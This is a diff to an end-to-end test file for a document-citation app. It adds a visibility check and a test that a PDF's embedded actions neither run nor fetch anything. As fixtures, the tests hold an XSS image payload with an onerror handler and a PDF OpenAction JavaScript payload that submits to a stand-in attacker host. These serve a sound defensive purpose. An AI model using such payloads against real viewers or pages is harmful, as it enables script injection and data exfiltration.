@@ -36,6 +36,15 @@ async function ask(page: Page, question: string): Promise<void> {
 const chip = (page: Page) => page.getByRole('article', { name: 'Answer' }).getByRole('button', { name: /^Source 1/ });
 const marked = async (page: Page) => (await page.locator('aside mark').allTextContents()).join(' ');
 
+/** Whether it can be seen without scrolling: all that scrolls around it shows it. */
+const inView = (page: Page, selector: string): Promise<boolean> =>
+  page.evaluate(`(() => {
+    const element = document.querySelector(${JSON.stringify(selector)});
+    const box = element?.getBoundingClientRect();
+    const frame = element?.closest('section')?.getBoundingClientRect();
+    return Boolean(box && frame && box.top >= frame.top && box.bottom <= frame.bottom);
+  })()`);
+
 describe.skipIf(!chromiumPath)(`documents${skipped}`, () => {
   it.each(['light', 'dark'] as const)('are cited, and shown at the words that were quoted, in %s', async (scheme) => {
     const folder = tempFolder();
@@ -97,7 +106,10 @@ describe.skipIf(!chromiumPath)(`documents${skipped}`, () => {
     const app = await start();
     const page = await open(app.url);
     const evil = '<img src=http://evil.example/x onerror=alert(1)> Pelicans fish at dawn.';
-    const filler = Array.from({ length: 3_000 }, (_, n) => `Line ${n} is about nothing.`).join('\n');
+    const filler = Array.from(
+      { length: 3_000 },
+      (_, n) => `Line ${n} is about nothing${', and goes on about it'.repeat(n % 5)}.`,
+    ).join('\n');
     const cases: [string, string | Buffer, string, string][] = [
       [
         'birds.xlsx',
@@ -141,9 +153,29 @@ describe.skipIf(!chromiumPath)(`documents${skipped}`, () => {
       const panel = page.getByRole('complementary', { name: 'Inspector' });
       await panel.locator('mark, td[aria-current]').filter({ hasText: words }).first().waitFor();
       expect(await panel.locator('[data-index]').count(), name).toBeLessThan(120);
+      await expect.poll(() => inView(page, '[data-pointed]'), { message: name }).toBe(true);
       await expectAccessible(page);
     }
     expect(await page.locator('img[src*="evil"], [onerror]').count()).toBe(0);
+  });
+
+  it('run nothing and fetch nothing, whatever a PDF asks for', async () => {
+    const app = await start();
+    const page = await open(app.url);
+    let alerted = false;
+    page.on('dialog', (dialog) => {
+      alerted = true;
+      void dialog.dismiss();
+    });
+    const actions =
+      "/OpenAction<</S/JavaScript/JS(app.alert\\('open'\\); this.submitForm\\('http://evil.example/x'\\))>>/AA<</WC<</S/URI/URI(http://evil.example/y)>>>>";
+    const hostile = pdf(['Egrets wade in the shallows.'], { catalog: actions });
+    await attach(page, 'egrets.pdf', hostile);
+    await ask(page, 'Where do egrets wade?');
+    await chip(page).click();
+    await page.locator('[data-page="1"] mark').first().waitFor();
+    expect(alerted).toBe(false);
+    expect(await page.locator('aside a, aside iframe, aside form, aside script').count()).toBe(0);
   });
 
   it('that are broken say so, in the tray and where they are opened', async () => {
